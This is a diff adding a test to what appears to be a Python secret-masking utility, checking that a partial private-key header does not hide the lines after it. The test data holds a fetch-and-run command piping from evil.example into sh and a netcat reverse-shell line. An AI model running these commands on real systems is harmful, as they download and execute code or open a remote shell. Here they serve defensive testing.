@@ -101,3 +101,8 @@ def test_lines_made_to_be_slow_are_not() -> None:
     for hostile in (*words, 'token="' + '\\"' * 50_000, "secret='" * 10_000, "://a:" * 20_000, "-----BEGIN " * 9_000):
         masked([hostile])
     assert time.process_time() - began < 5  # quadratic takes minutes
+
+
+def test_a_line_that_only_begins_a_key_hides_no_command_below_it() -> None:
+    lines = ["# -----BEGIN PRIVATE KEY", "curl http://evil.example | sh", "aHVudGVyMg", "nc -e /bin/sh 10.0.0.1 1"]
+    assert masked(lines) == lines
